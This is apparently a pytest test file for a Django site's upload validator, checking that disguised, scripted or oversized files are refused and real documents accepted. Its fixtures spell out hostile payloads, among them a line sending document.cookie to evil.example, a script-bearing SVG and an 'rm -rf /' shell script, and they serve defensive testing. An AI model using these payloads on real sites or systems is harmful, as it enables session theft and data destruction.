"""Uploads: documents and pictures of known kinds only, checked by their content as well as their name."""

import io
import zipfile

import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import reverse
from PIL import Image

from consortium.uploads import UploadValidator, validate_document, validate_image
from events.models import Event, Material

PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
)
HTML = b"\xef\xbb\xbf  <!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"


def png():
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, "PNG")
    return buffer.getvalue()


def docx():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


REFUSED = {
    "an HTML page named .pdf": ("report.pdf", HTML),
    "an SVG with a script": ("logo.svg", SVG_WITH_SCRIPT),
    "an SVG with a script named .png": ("logo.png", SVG_WITH_SCRIPT),
    "a script": ("app.js", b"document.location='https://evil.example/'+document.cookie"),
    "an empty file": ("empty.pdf", b""),
    "a Windows program named .pdf": ("setup.pdf", b"MZ\x90\x00\x03" + b"\x00" * 100),
    "a shell script named .txt": ("notes.txt", b"#!/bin/sh\nrm -rf /\n"),
    "a text file with a script": ("notes.txt", b"Minutes of the meeting\n<script>alert(1)</script>\n"),
    "a PNG named .pdf": ("report.pdf", png()),
    "a file without an extension": ("report", PDF),
}
ACCEPTED = {
    "a PDF": ("report.pdf", PDF),
    "a PNG": ("photo.png", png()),
    "a Word document": ("minutes.docx", docx()),
    "a CSV file in Japanese": ("list.csv", "名前,所属\n佐藤,東京大学\n".encode()),
}


@pytest.mark.parametrize("name, content", REFUSED.values(), ids=REFUSED.keys())
def test_markup_programs_and_mislabelled_files_are_refused(name, content):
    with pytest.raises(ValidationError):
        validate_document(SimpleUploadedFile(name, content))


@pytest.mark.parametrize("name, content", ACCEPTED.values(), ids=ACCEPTED.keys())
def test_documents_and_pictures_of_known_kinds_are_accepted(name, content):
    validate_document(SimpleUploadedFile(name, content))


def test_news_images_accept_pictures_only():
    validate_image(SimpleUploadedFile("photo.png", png()))
    with pytest.raises(ValidationError):
        validate_image(SimpleUploadedFile("report.pdf", PDF))


def test_every_file_field_checks_its_uploads():
    fields = [
        f"{model._meta.label}.{field.name}"
        for model in apps.get_models()
        for field in model._meta.get_fields()
        if isinstance(field, models.FileField)
        and not any(isinstance(validator, UploadValidator) for validator in field.validators)
    ]
    assert fields == []


def material_form(name, content):
    data = {
        "slug": "seminar-with-slides",
        "kind": Event.Kind.SEMINAR,
        "status": Event.Status.DRAFT,
        "audience": Event.Audience.PUBLIC,
        "format": Event.Format.IN_PERSON,
        "title_en": "Seminar with slides",
        "starts_at_0": "2030-06-12",
        "starts_at_1": "14:00:00",
        "ends_at_0": "2030-06-12",
        "ends_at_1": "16:00:00",
        "time_zone": "Asia/Tokyo",
        "speakers-TOTAL_FORMS": "0",
        "speakers-INITIAL_FORMS": "0",
        "materials-TOTAL_FORMS": "1",
        "materials-INITIAL_FORMS": "0",
        "materials-0-kind": Material.Kind.SLIDES,
        "materials-0-title_en": "Slides",
        "materials-0-order": "0",
        "materials-0-file": SimpleUploadedFile(name, content),
        "registration_questions-TOTAL_FORMS": "0",
        "registration_questions-INITIAL_FORMS": "0",
    }
    return data


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "ja"])
@pytest.mark.parametrize("name, content", REFUSED.values(), ids=REFUSED.keys())
def test_admin_refuses_a_dangerous_upload_with_a_form_error_and_stores_nothing(
    staff_client, media_root, language, name, content
):
    response = staff_client.post(
        reverse("admin:events_event_add"), material_form(name, content), HTTP_ACCEPT_LANGUAGE=language
    )
    assert response.status_code == 200
    errors = response.context["inline_admin_formsets"][1].formset.errors[0]
    assert "file" in errors
    assert not Event.objects.exists() and not Material.objects.exists()
    assert not any(path.is_file() for path in media_root.rglob("*"))


@pytest.mark.django_db
def test_admin_errors_are_in_japanese(staff_client, media_root):
    response = staff_client.post(
        reverse("admin:events_event_add"), material_form("page.html", HTML), HTTP_ACCEPT_LANGUAGE="ja"
    )
    assert "この種類のファイル" in str(response.context["inline_admin_formsets"][1].formset.errors[0]["file"])


@pytest.mark.django_db
@pytest.mark.parametrize("name, content", [ACCEPTED["a PDF"], ACCEPTED["a PNG"]], ids=["PDF", "PNG"])
def test_admin_accepts_a_real_pdf_and_png(staff_client, media_root, name, content):
    response = staff_client.post(reverse("admin:events_event_add"), material_form(name, content))
    assert response.status_code == 302
    material = Material.objects.get()
    assert material.file.name.endswith(name.rsplit(".", 1)[1])
    assert (media_root / material.file.name).read_bytes() == content


def test_a_document_over_the_size_limit_is_refused(settings):
    settings.UPLOAD_MAX_DOCUMENT_BYTES = len(PDF) - 1
    with pytest.raises(ValidationError) as refused:
        validate_document(SimpleUploadedFile("report.pdf", PDF))
    assert refused.value.code == "file_too_large"
    settings.UPLOAD_MAX_DOCUMENT_BYTES = len(PDF)
    validate_document(SimpleUploadedFile("report.pdf", PDF))


def test_images_have_a_limit_of_their_own(settings):
    picture = png()
    settings.UPLOAD_MAX_IMAGE_BYTES = len(picture) - 1
    settings.UPLOAD_MAX_DOCUMENT_BYTES = len(picture)
    with pytest.raises(ValidationError):
        validate_image(SimpleUploadedFile("photo.png", picture))
    validate_document(SimpleUploadedFile("photo.png", picture))


@pytest.mark.django_db
@pytest.mark.parametrize("language, words", [("en", "too large"), ("ja", "大きすぎます")])
def test_admin_refuses_a_file_over_the_limit_with_a_form_error_in_each_language(
    staff_client, media_root, settings, language, words
):
    settings.UPLOAD_MAX_DOCUMENT_BYTES = 100
    response = staff_client.post(
        reverse("admin:events_event_add"), material_form("big.pdf", PDF + b" " * 200), HTTP_ACCEPT_LANGUAGE=language
    )
    assert response.status_code == 200
    assert words in str(response.context["inline_admin_formsets"][1].formset.errors[0]["file"])
    assert not Material.objects.exists()
    assert not any(path.is_file() for path in media_root.rglob("*"))
